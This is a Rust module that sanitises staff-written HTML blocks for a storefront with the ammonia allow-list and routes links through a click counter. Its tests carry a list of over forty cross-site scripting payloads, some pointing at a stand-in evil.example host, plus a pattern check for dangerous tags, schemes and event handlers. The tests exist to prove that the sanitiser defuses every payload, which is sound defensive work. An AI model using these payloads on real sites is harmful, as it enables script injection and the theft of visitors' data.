//! The one HTML policy of dynamic blocks (`ammonia`, an allow-list): a small rich-text subset kept
//! on save, applied again on output, where each link also goes through the click counter.
use ammonia::{Builder, UrlRelative};
use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::Mutex;

/// Elements staff may use in a block.
const TAGS: &[&str] = &[
    "a",
    "b",
    "blockquote",
    "br",
    "em",
    "h2",
    "h3",
    "h4",
    "hr",
    "i",
    "img",
    "li",
    "ol",
    "p",
    "s",
    "small",
    "span",
    "strong",
    "sub",
    "sup",
    "u",
    "ul",
];
/// Link targets a block may point at (relative links stay as written).
const SCHEMES: &[&str] = &["http", "https", "mailto"];

fn policy() -> Builder<'static> {
    let mut b = Builder::empty();
    b.tags(TAGS.iter().copied().collect())
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href", "title"])),
            ("img", HashSet::from(["src", "alt", "width", "height"])),
        ]))
        .generic_attributes(HashSet::from(["class", "lang"]))
        .url_schemes(SCHEMES.iter().copied().collect())
        .url_relative(UrlRelative::PassThrough)
        // `external`: the router leaves the click to the browser, which asks the click counter.
        .link_rel(Some("noopener noreferrer external"))
        .strip_comments(true);
    b
}

/// `html` with everything outside the policy removed (scripts and styles with their content).
pub fn clean(html: &str) -> String {
    policy().clean(html).to_string()
}

/// The links of a cleaned block, as written: the only places its click counter sends anyone.
pub fn links(html: &str) -> Vec<String> {
    let found = std::sync::Arc::new(Mutex::new(Vec::new()));
    let sink = found.clone();
    let mut b = policy();
    b.attribute_filter(move |element, attribute, value| {
        if element == "a" && attribute == "href" {
            sink.lock()
                .unwrap_or_else(|e| e.into_inner())
                .push(value.to_owned());
        }
        Some(Cow::Borrowed(value))
    });
    b.clean(html);
    let mut v = std::mem::take(&mut *found.lock().unwrap_or_else(|e| e.into_inner()));
    v.sort();
    v.dedup();
    v
}

/// The URL a block's link is rewritten to, so the click is counted before the visitor goes on.
pub fn click_url(block: u32, holdout: bool, to: &str) -> String {
    let mut url = url::form_urlencoded::Serializer::new(String::new());
    url.append_pair("b", &block.to_string());
    if holdout {
        url.append_pair("h", "1");
    }
    url.append_pair("to", to);
    format!("/content/click?{}", url.finish())
}

/// A kept block's content as the storefront sends it: cleaned once more, each link through the
/// click counter (`mailto:` links stay direct).
pub fn render(html: &str, block: u32, holdout: bool) -> String {
    let mut b = policy();
    b.attribute_filter(move |element, attribute, value| {
        if element == "a" && attribute == "href" && !value.starts_with("mailto:") {
            Some(Cow::Owned(click_url(block, holdout, value)))
        } else {
            Some(Cow::Borrowed(value))
        }
    });
    b.clean(html).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_rich_text_subset_stays() {
        let html = "<h2>Sale</h2><p>Up to <strong>50%</strong> <em>off</em>.</p>\
                    <ul><li>One</li></ul><a href=\"/sale\" title=\"Sale\">Shop</a>\
                    <img src=\"https://cdn.example/x.png\" alt=\"x\" width=\"10\">";
        let out = clean(html);
        for kept in [
            "<h2>Sale</h2>",
            "<strong>50%</strong>",
            "<em>off</em>",
            "<li>One</li>",
            "href=\"/sale\"",
            "title=\"Sale\"",
            "rel=\"noopener noreferrer external\"",
            "src=\"https://cdn.example/x.png\"",
            "alt=\"x\"",
        ] {
            assert!(out.contains(kept), "{kept} missing from {out}");
        }
    }

    #[test]
    fn links_go_through_the_click_counter_and_are_known() {
        let html = clean("<a href=\"/sale?x=1&y=2\">a</a><a href=\"mailto:s@example.com\">m</a>");
        assert_eq!(links(&html), ["/sale?x=1&y=2", "mailto:s@example.com"]);
        let out = render(&html, 7, true);
        assert!(
            out.contains("href=\"/content/click?b=7&amp;h=1&amp;to=%2Fsale%3Fx%3D1%26y%3D2\""),
            "{out}"
        );
        assert!(out.contains("href=\"mailto:s@example.com\""), "{out}");
    }

    /// Each must come out inert: no script element, no event handler, no script URL, no style.
    pub const XSS: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<body onload=alert(1)>",
        "<p onclick=\"alert(1)\">x</p>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<form action=\"https://evil.example\"><input name=p></form>",
        "<base href=\"https://evil.example/\">",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<img src=x:alert(1) onerror=eval(src)>",
        "<a href=\"#\" onmouseover=\"alert(1)\">x</a>",
        "<<script>alert(1)//<</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<!--<script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<a href=\"https://ok.example\" target=\"_blank\" onfocus=alert(1) autofocus>x</a>",
        "<span class=x id=\"x\" onpointerenter=alert(1)>x</span>",
        "<img srcset=\"javascript:alert(1) 1x\">",
        "<xss:script xmlns:xss=\"http://www.w3.org/1999/xhtml\">alert(1)</xss:script>",
    ];

    /// Whether `html` could run anything once in a page.
    pub fn live(html: &str) -> Option<&'static str> {
        let lower = html.to_ascii_lowercase();
        let tags = [
            "<script",
            "<svg",
            "<iframe",
            "<object",
            "<embed",
            "<style",
            "<link",
            "<meta",
            "<form",
            "<base",
            "<math",
            "<template",
            "<input",
        ];
        if let Some(t) = tags.iter().find(|t| lower.contains(**t)) {
            return Some(t);
        }
        for bad in [
            "javascript:",
            "vbscript:",
            "data:",
            "style=",
            "srcset=",
            "srcdoc=",
        ] {
            if lower.contains(bad) {
                return Some(bad);
            }
        }
        // An event handler is an attribute ` on…=` inside a tag.
        let in_tag_handler = lower.split('<').skip(1).any(|tag| {
            let tag = tag.split('>').next().unwrap_or("");
            tag.split_whitespace().skip(1).any(|a| a.starts_with("on"))
        });
        in_tag_handler.then_some("event handler")
    }

    #[test]
    fn every_xss_payload_comes_out_inert_on_save_and_on_output() {
        assert!(XSS.len() >= 30);
        for p in XSS {
            let saved = clean(p);
            assert_eq!(live(&saved), None, "{p} saved as {saved}");
            let shown = render(&saved, 1, false);
            assert_eq!(live(&shown), None, "{p} shown as {shown}");
            // Output cleans again: even a payload that skipped the save is inert.
            assert_eq!(live(&render(p, 1, false)), None, "{p} unsaved");
        }
    }
}
